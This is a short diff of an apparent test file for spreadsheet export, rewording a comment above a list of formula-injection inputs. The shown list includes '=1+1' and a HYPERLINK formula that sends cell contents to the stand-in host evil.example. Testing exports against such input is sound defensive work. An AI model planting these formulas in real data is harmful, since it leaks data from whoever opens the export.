@@ -15,7 +15,7 @@ beforeAll(async () => {
 });
 afterAll(() => app?.close());
 
-/** What customers could write into a field so that it runs on the computer of whoever opens the export. */
+/** What customers could write into a field so that it runs on the computer of the person who opens the export. */
 const attacks = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
